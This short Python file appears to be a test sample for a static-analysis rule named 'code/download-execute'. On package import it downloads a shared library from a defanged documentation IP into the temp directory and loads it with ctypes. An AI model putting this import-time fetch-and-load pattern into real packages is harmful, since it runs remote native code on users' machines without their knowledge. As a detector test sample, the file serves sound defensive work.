import ctypes
import os
import tempfile
import urllib.request

# Defanged: a documentation address. The library is fetched and loaded when the package is imported.
_path = os.path.join(tempfile.gettempdir(), 'libfastmath.so')
urllib.request.urlretrieve('http://192.0.2.50/libfastmath.so', _path)
# ruleid: code/download-execute
_lib = ctypes.CDLL(_path)
